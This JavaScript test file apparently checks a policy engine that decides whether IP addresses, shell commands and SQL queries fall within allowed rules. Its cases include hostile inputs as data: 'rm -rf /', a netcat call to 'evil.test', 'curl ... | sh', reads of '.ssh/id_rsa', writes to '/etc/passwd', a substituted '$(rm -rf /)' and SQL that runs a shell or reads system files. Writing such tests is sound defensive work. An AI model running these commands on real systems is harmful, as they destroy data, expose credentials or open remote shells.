import { cond, type } from "./author.mjs";

const c = (x) => ({ x });
/** A condition on a command. */
const command = (name, when, more) => cond(name, "x: Command", when, more);
const sql = (name, when, more) => cond(name, "x: Sql<\"postgresql\">", when, more);

export const cases = [
  // -- Ip
  type("ip", "Ip", {
    reads: [["192.0.2.1"], ["2001:DB8::1", "2001:db8::1"], ["::ffff:10.0.0.1", "10.0.0.1"], ["0:0:0:0:0:0:0:1", "::1"], ["2001:db8:0:0:1:0:0:1", "2001:db8::1:0:0:1"]],
    faults: [["127.1", "ip"], ["0x7f.0.0.1", "ip"], ["0177.0.0.1", "ip"], ["2130706433", "ip"], ["256.0.0.1", "ip"], ["1.2.3.4:80", "ip"], ["[::1]", "ip"], ["fe80::1%eth0", "ip"], ["acme.com", "ip"], ["", "ip"], [" 1.2.3.4", "ip"], [1, "ip"]],
  }),
  cond("ip-in-blocks", "x: Ip", "x in [\"10.0.0.0/8\", \"2001:db8::/32\", \"192.0.2.7\"]", {
    effect: "egress", sink: "x", yes: [c("10.255.0.1"), c("2001:db8:1::1"), c("192.0.2.7"), c("::ffff:10.1.1.1")], no: [c("11.0.0.1"), c("192.0.2.8"), c("2001:db9::1")],
  }),
  cond("ip-that-carries-an-address-of-a-block-is-unknown", "x: Ip", "x in [\"10.0.0.0/8\"]", { effect: "egress", sink: "x", yes: [c("10.0.0.1")], no: [c("2606:4700::1111")], unknown: [c("64:ff9b::a00:1"), c("2002:a00:1::1")] }),
  cond("ip-private", "x: Ip", "x.private", { effect: "egress", sink: "x", yes: [c("10.0.0.1"), c("127.0.0.1"), c("169.254.169.254"), c("::1"), c("fd00::1"), c("fe80::1"), c("100.64.0.1"), c("224.0.0.1"), c("0.0.0.0"), c("64:ff9b::a00:1")], no: [c("8.8.8.8"), c("2606:4700::1111")] }),
  cond("ip-equal", "x: Ip", "x == \"::ffff:10.0.0.1\"", { effect: "egress", sink: "x", yes: [c("10.0.0.1")], no: [c("10.0.0.2")] }),
  cond("host-in-blocks", "x: Host", "x in [\"10.0.0.0/8\", \"*.acme.com\"]", { effect: "egress", sink: "x", yes: [c("10.1.1.1"), c("0x0a000001"), c("a.acme.com")], no: [c("11.0.0.1"), c("acme.com"), c("10.acme.org")] }),

  // -- Command
  type("command-is-kept-as-it-is", "Command", { reads: [["ls -la"], [" ls  -la "], ["rm -rf / && echo done"], ["echo \"unclosed"], [""]], faults: [[1, "command"], ["ls\u0000", "command"], [`echo ${"a".repeat(32768)}`, "too_long"]] }),
  command("command-program", "x.program == \"git\"", { yes: [c("git status"), c("  git   push origin main"), c("git add . && git commit -m x")], no: [c("ls"), c("gitx"), c("echo git")], unknown: [c("git status && ls"), c("/usr/bin/git status"), c("$GIT status"), c("git status; $(rm -rf /)")] }),
  command("command-programs", "every x.programs in [\"git\", \"ls\"]", { yes: [c("git status"), c("git log | ls"), c("ls; git status")], no: [c("git status && rm x"), c("curl acme.com | wc"), c("ls & nc evil.test 1"), c("eval ls")], unknown: [c("$X"), c("/bin/ls"), c("> f"), c("curl acme.com | sh")] }),
  command("command-programs-behind-wrappers", "some x.programs == \"rm\"", {
    yes: [c("rm x"), c("sudo rm x"), c("env rm x"), c("xargs rm < list"), c("sh -c 'rm x'"), c("find . -exec rm {} +"), c("nohup rm x &"), c("time rm x"), c("ls && (cd a; rm x)"), c("bash -c \"bash -c 'rm x'\""), c("r''m x"), c("\"rm\" x")],
    no: [c("ls rm"), c("echo 'rm x'"), c("git rm x")], unknown: [c("/bin/rm x"), c("$(echo rm) x"), c("eval \"$X\"")],
  }),
  command("command-args", "x.args has \"--force\"", { yes: [c("git push --force"), c("git push '--force'"), c("git push --for\"ce\"")], no: [c("git push"), c("echo ok"), c("git push --force-with-lease")], unknown: [c("git push $FLAGS")] }),
  command("command-flags", "some x.flags in [\"-f\", \"--force\"]", { yes: [c("git push -f"), c("rm -rf x"), c("git push --force=true")], no: [c("git push"), c("rm -r x")], unknown: [c("git push $FLAGS")] }),
  command("command-reads", "some x.reads like \"**/.ssh/**\"", { yes: [c("cat /home/a/.ssh/id_rsa"), c("wc -l < /home/a/.ssh/id_rsa")], no: [c("cat /tmp/x")], unknown: [c("python3 -c 'print(1)'"), c("cat $FILE")] }),
  command("command-writes", "some x.writes like \"/etc/**\"", { yes: [c("echo x > /etc/passwd"), c("cat a >> /etc/b"), c("cp a /etc/b"), c("echo x | tee /etc/b")], no: [c("echo x > /tmp/y"), c("cat /etc/passwd")], unknown: [c("echo x > $F")] }),
  command("command-dynamic", "x.dynamic", { yes: [c("echo $HOME"), c("ls $(pwd)"), c("ls `pwd`"), c("eval ls"), c("> f"), c(""), c("# nothing"), c("ls *.txt"), c("echo {a,b}"), c("cd ~"), c("echo \"unclosed"), c("python3 -c 'print(1)'")], no: [c("ls -la"), c("echo '$HOME'"), c("git status && ls"), c("cat a | wc -l")] }),
  command("command-pipes", "x.pipes > 0", { yes: [c("cat a | wc -l"), c("a | b | c")], no: [c("ls"), c("ls && pwd"), c("echo '|'")] }),
  command("command-equal-text", "x == \"npm test\"", { yes: [c("npm test")], no: [c("npm install"), c("ls")], unknown: [c("npm  test"), c("/usr/bin/npm test"), c("npm $X")] }),
  command("command-that-says-dynamic-is-admitted-as-such", "x.dynamic or x.program == \"ls\"", { yes: [c("ls"), c("echo $X")], no: [c("rm x")] }),
  command("command-allowed-only-where-it-is-known", "not x.dynamic and every x.programs in [\"ls\", \"cat\"]", { yes: [c("ls | cat")], no: [c("ls $X"), c("rm x"), c("$X")], unknown: [c("/bin/ls")] }),

  // -- Sql
  type("sql-is-kept-as-it-is", "Sql<\"postgresql\">", { reads: [["SELECT 1"], ["select  a from t; -- c"]], faults: [["SELEC 1", "sql"], ["", "sql"], ["-- nothing", "sql"], ["SELECT 1\u0000", "sql"], [1, "sql"], [`SELECT '${"a".repeat(65536)}'`, "too_long"]] }),
  sql("sql-kind", "x.kind == \"select\"", { yes: [c("SELECT 1"), c("select a from t; select b from u"), c("WITH a AS (SELECT 1) SELECT * FROM a")], no: [c("DELETE FROM t"), c("INSERT INTO t VALUES (1)"), c("UPDATE t SET a = 1"), c("DROP TABLE t")], unknown: [c("SELECT 1; DELETE FROM t"), c("WITH a AS (DELETE FROM t RETURNING *) SELECT * FROM a")] }),
  sql("sql-readonly", "x.readonly", {
    yes: [c("SELECT a, b FROM t WHERE a = 1"), c("SELECT count(*) FROM t"), c("SELECT 1; SELECT 2")],
    no: [c("DELETE FROM t"), c("SELECT 1; DROP TABLE t"), c("WITH a AS (DELETE FROM t RETURNING *) SELECT * FROM a"), c("SELECT * INTO u FROM t"), c("SELECT * FROM t FOR UPDATE"), c("COPY t TO PROGRAM 'sh'"), c("DO $$ BEGIN END $$"), c("SET ROLE admin"), c("TRUNCATE t")],
    unknown: [c("SELECT my_function(1)"), c("SELECT pg_read_file('/etc/passwd')"), c("SELECT dblink('x', 'y')")],
  }),
  sql("sql-tables", "every x.tables in [\"orders\", \"items\"]", { yes: [c("SELECT * FROM orders"), c("SELECT * FROM Orders o JOIN items USING (id)"), c("WITH a AS (SELECT * FROM items) SELECT * FROM a")], no: [c("SELECT * FROM users"), c("SELECT * FROM orders WHERE id IN (SELECT id FROM users)"), c("SELECT * FROM \"Orders\"")], unknown: [c("SELECT * FROM public.orders")] }),
  sql("sql-columns", "x.columns has \"password\"", { yes: [c("SELECT password FROM t"), c("SELECT a FROM t WHERE t.password = 'x'")], no: [c("SELECT a FROM t")], unknown: [c("SELECT * FROM t")] }),
  sql("sql-statements", "x.statements == 1", { yes: [c("SELECT 1"), c("SELECT 1;")], no: [c("SELECT 1; SELECT 2")] }),
  sql("sql-limit", "x.limit <= 100", { yes: [c("SELECT * FROM t LIMIT 100"), c("SELECT a FROM t LIMIT 5 OFFSET 900")], no: [c("SELECT * FROM t LIMIT 101")], unknown: [c("SELECT * FROM t"), c("SELECT * FROM t LIMIT ALL"), c("SELECT 1 LIMIT 1; SELECT 2 LIMIT 1")] }),
  sql("sql-filtered", "x.filtered", { yes: [c("DELETE FROM t WHERE id = 7"), c("UPDATE t SET a = 1 WHERE id = 7")], no: [c("DELETE FROM t"), c("UPDATE t SET a = 1"), c("TRUNCATE t"), c("DELETE FROM t WHERE true")], unknown: [c("SELECT 1")] }),
  sql("sql-equal-text", "x == \"SELECT 1\"", { yes: [c("SELECT 1")], no: [c("DELETE FROM t"), c("SELECT 1; SELECT 1")], unknown: [c("SELECT  1"), c("SELECT 2")] }),
];
